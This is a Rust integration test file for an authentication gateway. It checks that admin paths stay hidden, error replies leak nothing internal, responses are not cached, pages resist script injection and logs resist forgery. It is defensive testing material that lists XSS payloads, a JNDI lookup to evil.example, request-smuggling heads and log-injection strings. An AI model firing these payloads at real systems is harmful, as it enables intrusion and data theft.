//! EXPOSE, PAGE, LOG: what the gateway shows of itself and of people, and to whom.

use http::Method;
use serde_json::{Value, json};
use vestibule::auth::ROUTES;

use super::{BOTH, Saw, Via, ask, sent};
use crate::harness::{
    Gateway, SOON, Setup, eventually,
    people::{PASSWORD, User},
};

/// What a browser says that goes to a page.
const NAVIGATES: [(&str, &str); 2] = [("Sec-Fetch-Mode", "navigate"), ("Accept", "text/html")];

/// Every route of the API, with something in the place of its parameter.
fn own_routes() -> impl Iterator<Item = (&'static Method, String)> {
    ROUTES.iter().map(|route| {
        let path = route.path.replace(":provider", "google").replace(":token", "abc");
        (&route.method, format!("/api/auth{path}"))
    })
}

#[tokio::test]
async fn expose_01_the_public_listener_has_none_of_the_admin_listeners() {
    let gateway = Setup::default().with("[server]\nhosts = ['*']").start().await;
    let root = gateway.signed_in_as("root@example.com", &["admin"]).await;
    let admin = gateway.admin().to_string();
    for path in [
        "/metrics",
        "/livez",
        "/readyz",
        "/healthz",
        "/health",
        "/status",
        "/debug",
        "/debug/pprof/",
        "/debug/vars",
        "/config",
        "/server-status",
        "/.env",
        "/.git/config",
        "/actuator/env",
        "/_vestibule",
        "/api/auth/metrics",
        "/api/auth/admin",
        "/api/auth/config",
    ] {
        for via in BOTH {
            for fields in [
                &[][..],
                &[("Cookie", root.cookie.as_str())],
                &[("X-Forwarded-For", "127.0.0.1")],
            ] {
                let saw = ask(&gateway, via, "GET", path, fields).await;
                assert_eq!(saw.status, 404, "{via:?} {path}");
            }
        }
        for host in [admin.as_str(), "localhost", "127.0.0.1:9901"] {
            let saw = ask(&gateway, Via::Http1, "GET", path, &[("Host", host)]).await;
            assert_eq!(saw.status, 404, "{host} {path}");
        }
    }
    // Where an application has such paths, they are its own.
    for via in BOTH {
        let fields = [("Cookie", root.cookie.as_str())];
        let saw = ask(&gateway, via, "GET", "/admin/api", &fields).await;
        assert_eq!((saw.status, saw.text()), (200, "GET /admin/api".to_owned()));
        assert_eq!(ask(&gateway, via, "GET", "/admin/api", &[]).await.status, 401);
    }
}

/// All kinds of refusals that can be provoked from outside, in every form.
async fn refusals(gateway: &Gateway) -> Vec<(&'static str, Saw)> {
    let eve = gateway.signed_in("eve@example.com").await;
    let broken = "HTTP/1.1 200 OK\r\nX-Internal: 10.0.0.7\r\nContent-Length: x\r\n\r\n";
    gateway.upstream().answer_and_close("/public/broken", broken);
    gateway
        .upstream()
        .answer_and_close("/public/half", "HTTP/1.1 200 OK\r\nServer: internal-7");
    gateway
        .upstream()
        .answer("/public/switch", "HTTP/1.1 101 Switching Protocols\r\n\r\n");
    let mut refusals = Vec::new();
    for via in BOTH {
        for form in [&[][..], &NAVIGATES] {
            for (method, target) in [
                ("GET", "/public/..%2f"),
                ("GET", "/api/x"),
                ("GET", "/admin/x"),
                ("GET", "/nothing"),
                ("TRACE", "/public/x"),
                ("BREW", "/public/x"),
                ("GET", "/public/broken"),
                ("GET", "/public/half"),
                ("GET", "/public/switch"),
                ("POST", "/api/auth/sign-in/email"),
                ("GET", "/api/auth/me"),
                ("GET", "/api/auth/verify-email"),
                ("GET", "/api/auth/verify-email?token=x"),
                ("GET", "/api/auth/callback/google"),
                ("GET", "/api/auth/error?error=%3Cscript%3E"),
                ("GET", "/api/auth/%00"),
            ] {
                refusals.push((target, ask(gateway, via, method, target, form).await));
            }
            let fields = [form, &[("Cookie", eve.cookie.as_str())]].concat();
            refusals.push(("role", ask(gateway, via, "GET", "/admin/x", &fields).await));
            let fields = [
                form,
                &[("Cookie", eve.cookie.as_str()), ("Origin", "https://evil.example")],
            ]
            .concat();
            refusals.push(("origin", ask(gateway, via, "DELETE", "/api/x", &fields).await));
            let fields = [form, &[("Expect", "x")]].concat();
            refusals.push(("expect", ask(gateway, via, "GET", "/public/x", &fields).await));
        }
    }
    for (what, head) in [
        ("host", "GET /public/x HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        ("no host", "GET /public/x HTTP/1.1\r\n\r\n"),
        ("no request", "nonsense\r\n\r\n"),
        (
            "coding",
            "POST /public/x HTTP/1.1\r\nHost: app.example.com\r\nTransfer-Encoding: gzip, chunked\r\n\r\n",
        ),
        (
            "chunks",
            "POST /public/x HTTP/1.1\r\nHost: app.example.com\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        ),
        (
            "length",
            "POST /public/x HTTP/1.1\r\nHost: app.example.com\r\nContent-Length: 99999999999\r\n\r\n",
        ),
    ] {
        let (answer, _) = sent(gateway, head).await;
        let fields = answer.head.fields.clone();
        refusals.push((
            what,
            Saw {
                status: answer.status(),
                fields,
                body: answer.body,
            },
        ));
    }
    gateway.db().run("ALTER TABLE user_sessions RENAME TO gone").await;
    gateway.clock().advance(std::time::Duration::from_secs(11));
    let fields = [("Cookie", eve.cookie.as_str())];
    refusals.push(("no table", ask(gateway, Via::Http1, "GET", "/api/x", &fields).await));
    let body = json!({ "email": "eve@example.com", "password": PASSWORD });
    let answer = gateway.post("/api/auth/sign-in/email").json(&body).await;
    let fields = answer.head.fields.clone();
    refusals.push((
        "no table",
        Saw {
            status: answer.status(),
            fields,
            body: answer.body,
        },
    ));
    gateway.upstream().stop_listening();
    let away = async || ask(gateway, Via::Http1, "GET", "/public/x", &[]).await;
    eventually(SOON, async || away().await.status == 502).await;
    refusals.push(("away", away().await));
    refusals
}

#[tokio::test]
async fn expose_03_no_refusal_tells_anything_of_what_is_behind() {
    let gateway = Gateway::start().await;
    let port = format!(":{}", gateway.upstream().addr().port());
    let database: url::Url = gateway.db().url().parse().unwrap();
    let refusals = refusals(&gateway).await;
    assert!(refusals.len() > 60);
    let statuses: std::collections::BTreeSet<u16> = refusals.iter().map(|(_, saw)| saw.status).collect();
    for status in [400, 401, 403, 404, 405, 417, 421, 501, 502, 503] {
        assert!(statuses.contains(&status), "{status} is not among {statuses:?}");
    }
    let secret = [
        port.as_str(),
        database.path().trim_start_matches('/'),
        "127.0.0.1",
        "10.0.0.7",
        "internal-7",
        "hyper",
        "tokio",
        "rustls",
        "postgres",
        "sqlstate",
        "user_sessions",
        "panicked",
        ".rs:",
        "src/",
        "/root",
        "stack backtrace",
        env!("CARGO_PKG_VERSION"),
        "gateway.toml",
        "os error",
    ];
    for (what, saw) in &refusals {
        let text = format!("{:?} {}", saw.fields, saw.text()).to_ascii_lowercase();
        for secret in secret {
            assert!(
                !text.contains(&secret.to_ascii_lowercase()),
                "{what}: {secret} is in {text}"
            );
        }
        for name in ["server", "x-powered-by", "via", "x-internal"] {
            assert!(!saw.has(name), "{what}: {:?}", saw.fields);
        }
    }
}

#[tokio::test]
async fn expose_05_nothing_of_ours_is_kept_by_caches() {
    let gateway = Gateway::start().await;
    let ada = gateway.signed_in("ada@example.com").await;
    for (method, path) in own_routes() {
        // Keys that are for everybody are kept for a while.
        if path.ends_with("/jwks") {
            continue;
        }
        for tail in ["", "?x=.css", "/x.css", ".js", ";x.png", "%2Ex.ico"] {
            for fields in [
                &[][..],
                &[("Cookie", ada.cookie.as_str()), ("Origin", "https://app.example.com")],
            ] {
                let target = format!("{path}{tail}");
                let saw = ask(&gateway, Via::Http1, method.as_str(), &target, fields).await;
                let control = saw.one("cache-control").unwrap_or_default();
                let nothing = saw.status == 404 && saw.body.is_empty() && !saw.has("set-cookie");
                let elsewhere = saw.status == 401 && !target.starts_with("/api/auth/");
                assert!(
                    control.contains("no-store") || nothing || elsewhere,
                    "{method} {target}: {} {:?}",
                    saw.status,
                    saw.fields
                );
            }
        }
    }
    for target in [
        "/api/auth/get-session/x.css",
        "/api/auth/me/x.js",
        "/api/auth/get-session.css",
        "/api/auth/me;x.css",
    ] {
        let saw = ask(&gateway, Via::Http1, "GET", target, &[("Cookie", &ada.cookie)]).await;
        assert_eq!((saw.status, saw.body.len()), (404, 0), "{target}");
    }
    // What the gateway itself says on proxied paths, and what carries a cookie of ours.
    for (path, fields) in [
        ("/api/me/x.js", &[][..]),
        ("/nothing.css", &[]),
        ("/app/x.png", &NAVIGATES),
    ] {
        for via in BOTH {
            let saw = ask(&gateway, via, "GET", path, fields).await;
            assert_eq!(saw.one("cache-control"), Some("no-store"), "{path}");
        }
    }
    let keeps = "HTTP/1.1 200 OK\r\nCache-Control: public, max-age=600\r\nContent-Length: 2\r\n\r\nok";
    gateway.upstream().answer("/api/me/x.js", keeps);
    // Some of what was asked above ended her session.
    let ada = User::of(&gateway, &gateway.sign_in("ada@example.com").await);
    let usual = ask(&gateway, Via::Http1, "GET", "/api/me/x.js", &[("Cookie", &ada.cookie)]).await;
    assert_eq!(
        usual.one("cache-control"),
        Some("public, max-age=600"),
        "it is the application's to say"
    );
    gateway.clock().advance(std::time::Duration::from_hours(25));
    let slid = async || {
        let saw = ask(&gateway, Via::Http1, "GET", "/api/me/x.js", &[("Cookie", &ada.cookie)]).await;
        assert_eq!(saw.status, 200);
        saw.has("set-cookie")
            .then(|| saw.one("cache-control").map(str::to_owned))
    };
    assert_eq!(
        slid().await,
        Some(Some("no-store".to_owned())),
        "with a session in it nobody keeps it"
    );
}

/// Everything that is a page of ours.
async fn pages(gateway: &Gateway) -> Vec<(String, Saw)> {
    let mut pages = Vec::new();
    let mut targets: Vec<String> = [
        "/api/auth/reference",
        "/api/x",
        "/app/x",
        "/admin/x",
        "/nothing",
        "/public/%zz",
    ]
    .map(str::to_owned)
    .to_vec();
    targets.extend(
        own_routes()
            .filter(|(method, _)| **method == Method::GET)
            .map(|(_, path)| path),
    );
    for attack in ATTACKS {
        let attack: String = url::form_urlencoded::byte_serialize(attack.as_bytes()).collect();
        for parameter in [
            "error",
            "error_description",
            "return_to",
            "callbackURL",
            "state",
            "code",
            "login_hint",
            "message",
        ] {
            targets.push(format!("/api/auth/error?{parameter}={attack}"));
            targets.push(format!("/api/auth/error?error=X&{parameter}={attack}"));
        }
        targets.push(format!("/nothing?{attack}"));
        targets.push(format!(
            "/nothing/{}",
            attack.replace('+', "%20").replace("%2F", "x").replace("%5C", "x")
        ));
        targets.push(format!("/api/auth/callback/google?error={attack}"));
    }
    for target in targets {
        for via in BOTH {
            let saw = ask(gateway, via, "GET", &target, &NAVIGATES).await;
            if saw
                .one("content-type")
                .is_some_and(|media| media.starts_with("text/html"))
            {
                pages.push((format!("{via:?} {target}"), saw));
            }
        }
    }
    pages
}

const ATTACKS: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</title><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe src=//evil.example>",
    "<!--<script>",
    "]]><x>",
    "{{7*7}}${7*7}",
    "\u{202e}<b>",
    "&lt;script&gt;",
    "<style>@import '//evil.example'</style>",
];

#[tokio::test]
async fn page_01_page_02_reset_05_no_page_of_ours_runs_or_shows_what_somebody_wrote_nor_is_framed() {
    let gateway = Gateway::start().await;
    let pages = pages(&gateway).await;
    assert!(pages.len() > 200, "{}", pages.len());
    for (target, page) in pages {
        let policy = page
            .one("content-security-policy")
            .unwrap_or_else(|| panic!("{target}: {:?}", page.fields));
        for needed in [
            "default-src 'none'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
            "form-action 'none'",
        ] {
            assert!(policy.contains(needed), "{target}: {policy}");
        }
        for opens in ["script-src", "unsafe-eval", "http:", "https:", "*", "data:"] {
            assert!(!policy.contains(opens), "{target}: {policy}");
        }
        assert_eq!(page.one("x-content-type-options"), Some("nosniff"), "{target}");
        assert!(
            page.one("cache-control").unwrap_or_default().contains("no-store"),
            "{target}"
        );
        let text = page.text().to_ascii_lowercase();
        for live in [
            "<script",
            "<img",
            "<svg",
            "<iframe",
            "<b>",
            "<x>",
            "onerror=alert(1)>",
            "@import '//",
        ] {
            assert!(!text.contains(live), "{target}: {live} in {text}");
        }
        // Nothing comes from anywhere else, so nothing is told there (RESET-05).
        for foreign in ["src=\"http", "href=\"http", "src=\"//", "href=\"//", "url("] {
            assert!(!text.contains(foreign), "{target}: {foreign}");
        }
    }
    // What is no page is not taken for one.
    let saw = ask(&gateway, Via::Http1, "GET", "/api/x?%3Cscript%3E", &[]).await;
    assert_eq!(saw.one("content-type"), Some("application/json"));
    assert_eq!(saw.one("x-content-type-options"), Some("nosniff"));
}

#[tokio::test]
async fn page_01_a_name_in_a_mail_is_text() {
    let gateway = Gateway::start().await;
    for (number, attack) in ATTACKS.iter().enumerate() {
        let email = format!("user{number}@example.com");
        let body = json!({ "name": attack, "email": email, "password": PASSWORD });
        let answer = gateway.post("/api/auth/sign-up/email").json(&body).await;
        assert_eq!(answer.status(), 200, "{attack}: {}", answer.text());
        let mail = gateway.mailbox().next_to(&email).await;
        for live in ["<script", "<img", "<svg", "<iframe", "<x>", "<b>", "<style>@import"] {
            assert!(
                !mail.html.to_ascii_lowercase().contains(live),
                "{attack}: {}",
                mail.html
            );
        }
    }
}

/// A link that was damaged on its way is good once it is mended.
#[tokio::test]
async fn log_02_a_link_that_leads_nowhere_is_not_in_the_log() {
    let keeps = "[[routes]]\npath = '/kept/*'\nupstream = 'app'\nencoded_slashes = 'keep'";
    for routes in ["", keeps] {
        let gateway = Setup::default().with(routes).start().await;
        for target in [
            "/api/auth/reset-password/S3CRET",
            "/api/auth/reset-password%2FS3CRET",
            "/api/auth/reset-password;x/S3CRET",
            "/api/auth/reset-password%3Ftoken=S3CRET",
            "/api/auth/verify-email%3Ftoken=S3CRET",
            "/api/auth/verify-email&token=S3CRET",
            "/api/auth/delete-user/callback%3Ftoken%3DS3CRET",
            "/api%2Fauth%2Freset-password%2FS3CRET",
            "/kept/https:%2F%2Fapp%2Fapi%2Fauth%2Freset-password%2FS3CRET",
            "/kept/https:%2F%2Fapp%2Fapi%2Fauth%2Fverify-email%3Ftoken%3DS3CRET",
            "/nothing/api/auth/verify-email%3Ftoken=S3CRET",
        ] {
            assert!(gateway.get(target).await.status() >= 300, "{target}");
        }
        let log = gateway.last_words().await;
        assert_eq!(log.lines().count(), 11, "{log}");
        assert!(!log.contains("S3CRET"), "{log}");
        assert!(log.contains("/api/auth/verify-email:hidden"), "{log}");
    }
}

#[tokio::test]
async fn log_01_whatever_is_sent_is_one_line_each() {
    let gateway = Gateway::start().await;
    let ada = gateway.signed_in("ada@example.com").await;
    // Those of the sign-up and of the sign-in.
    let before = 2;
    eventually(SOON, async || gateway.log().lines().count() == before).await;
    let agents = [
        "a\"b\\c",
        "{\"status\":200}",
        "\u{1b}[31mred\u{1b}[0m",
        "a\tb",
        "\u{e2}\u{80}\u{ae}txt",
        "%0d%0aX: y",
        "${jndi:ldap://evil.example/x}",
        "',\"status\":200,\"x\":\"",
    ];
    let targets = [
        "/public/x%1b[31m",
        "/public/%E2%80%AE",
        "/nothing/%22%2C%22status%22%3A200",
        "/api/auth/error?error=%0d%0a",
        "/public/%E2%80%A8x",
    ];
    let mut sent_ones = 0;
    for agent in agents {
        for target in targets {
            let head = format!(
                "GET {target} HTTP/1.1\r\nHost: {}\r\nReferer: {agent}\r\nX-Request-Id: {agent}\r\nX-Forwarded-For: {agent}\r\n",
                gateway.host()
            );
            let latin: Vec<u8> = format!("{head}User-Agent: {agent}\r\n\r\n")
                .chars()
                .map(|c| c as u8)
                .collect();
            let (answer, _) = sent(&gateway, latin).await;
            assert!(answer.status() < 500, "{target} {agent:?}");
            sent_ones += 1;
        }
    }
    for email in [
        "a\r\nb@example.com",
        "\u{1b}[31m@example.com",
        "\u{202e}@example.com",
        "\"},{\"x\":\"@example.com",
    ] {
        let body = json!({ "email": email, "password": "x\r\ny" });
        let answer = gateway.post("/api/auth/sign-in/email").json(&body).await;
        assert!(matches!(answer.status(), 400 | 401), "{email:?}: {}", answer.text());
        sent_ones += 1;
    }
    eventually(SOON, async || gateway.log().lines().count() >= before + sent_ones).await;
    let log = gateway.log();
    assert_eq!(log.lines().count(), before + sent_ones);
    for line in log.lines() {
        let line_of = serde_json::from_str::<Value>(line).unwrap_or_else(|_| panic!("no JSON: {line}"));
        assert!(line_of["status"].is_u64(), "{line}");
        let obeyed = line
            .chars()
            .find(|c| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}'));
        assert_eq!(obeyed, None, "{line:?}");
    }
    assert!(!log.contains(&ada.token));
}
